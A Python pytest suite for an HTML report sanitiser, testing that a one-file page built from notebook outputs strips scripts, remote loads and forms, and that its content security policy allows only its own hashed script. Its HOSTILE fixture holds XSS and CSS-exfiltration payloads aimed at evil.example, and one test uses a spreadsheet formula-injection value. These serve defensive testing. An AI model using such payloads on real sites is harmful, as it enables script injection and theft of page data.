"""A report's page: one file, for every reader, on which nothing of a notebook can run, load or hide."""

from __future__ import annotations

import base64
import hashlib
import re
from html.parser import HTMLParser

import pytest

from tests.reports.files.conftest import SVG, executed, page_of, rows, shown
from toolkit.reports.page import page_css
from toolkit.reports.sanitise import clean
from toolkit.tokens import OURS, Brand, contrast, parse_hex

HOSTILE = (
    "<script>steal()</script><style>td[data-value^='1']{background:url(https://evil.example/1)}</style>"
    '<iframe src="https://evil.example/frame"></iframe><a href="javascript:steal()">link</a>'
    '<p style="background:url(https://evil.example/2)" onclick="steal()">kept</p><link rel="stylesheet" href="//evil.example">'
    '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">'
    '<svg><script>steal()</script></svg><img src="https://evil.example/p.png" onerror="steal()" alt="far">'
    '<form action="https://evil.example"><input name="word"></form><div id="content">caught</div>'
)


class Outline(HTMLParser):
    """The tags of a page with their attributes."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def all(self, *names: str) -> list[dict[str, str | None]]:
        return [attributes for tag, attributes in self.tags if tag in names]


@pytest.mark.parametrize(
    "kind", ["text/html", "text/markdown", "text/plain", "image/svg+xml", "image/png", "image/jpeg"]
)
def test_a_hostile_output_does_nothing(kind: str) -> None:
    """Whatever kind an output claims to be: no script of its own, no style, no address of elsewhere that is loaded."""
    html = page_of(executed(shown(kind, HOSTILE, alt='" onload="steal()', caption="<script>steal()</script>")))
    page = Outline(html)
    assert page.all("iframe", "object", "embed", "link", "base", "form", "input") == []
    assert len(page.all("script")) == len(page.all("style")) == 1
    assert len([one for one in page.all("meta") if one.get("http-equiv")]) == 1
    assert not [
        name for _tag, attributes in page.tags for name in attributes if name.startswith("on") or name == "style"
    ]
    assert all((one.get("src") or "data:").startswith("data:") for one in page.all("img"))
    assert not [one for one in page.all("a") if (one.get("href") or "").startswith("javascript:")]
    assert [tag for tag, attributes in page.tags if attributes.get("id") == "content"] == ["main"]


def test_the_policy_lets_only_our_script_run() -> None:
    """The policy names the script on the page by its hash, and nothing can be loaded or sent."""
    html = page_of(executed())
    policy = next(one["content"] or "" for one in Outline(html).all("meta") if one.get("http-equiv"))
    script = html.partition("<script>")[2].partition("</script>")[0]
    digest = base64.b64encode(hashlib.sha256(script.encode()).digest()).decode()
    assert f"script-src 'sha256-{digest}'" in policy
    assert "default-src 'none'" in policy
    assert "unsafe-inline" not in policy.partition("script-src")[2]
    assert not re.search(r"fetch|XMLHttp|WebSocket|import|eval|innerHTML", script)


def test_the_page_is_one_small_file() -> None:
    """Beside what the notebook brings, a page weighs less than 16 kB, and nothing is fetched."""
    html = page_of(executed(shown("image/svg+xml", SVG, alt="Mastodon leads", caption="Chart")))
    assert len(html.encode()) < 16_000
    assert "url(" not in html


def test_numbers_keep_their_exact_value_and_nothing_else_does() -> None:
    """`data-value` sorts and fills the workbook; a text in its place is dropped."""
    assert clean('<table><tr><td data-value="0.0235">2.35 %</td></tr></table>').count('data-value="0.0235"') == 1
    assert "data-value" not in clean('<table><tr><td data-value="=cmd()">x</td></tr></table>')
    assert "data-value" not in clean('<p data-value="1">x</p>')


def test_tables_keep_what_readers_need() -> None:
    """Captions, scopes and the frame that scrolls come through to the page."""
    page = Outline(page_of(executed(shown("text/html", rows({"Likes": "5", "Shares": "7"})))))
    frame = {"class": "table", "role": "region", "aria-label": "Key figures", "tabindex": "0"}
    assert frame in page.all("div")
    assert [one["scope"] for one in page.all("th")] == ["col", "col", "row", "row"]


@pytest.mark.parametrize(("scheme", "pale"), [(0, "#7fbf7f"), (1, "#225522")])
def test_good_and_bad_news_read_on_page_and_boxes(scheme: int, pale: str) -> None:
    """A brand whose green is too pale for its boxes gets one that reads, in light and in dark."""
    colour = parse_hex(pale)
    assert colour is not None
    brand = Brand({**OURS["light"], "success": colour}, {**OURS["dark"], "success": colour})
    roles = (brand.light, brand.dark)[scheme]
    half = re.findall(r":root\{(--good:[^}]*)\}", page_css(brand))[scheme]
    for shade in map(parse_hex, re.findall(r"#\w+", half)):
        assert shade is not None
        assert min(contrast(shade, roles[ground]) for ground in ("background", "surface")) >= 4.5
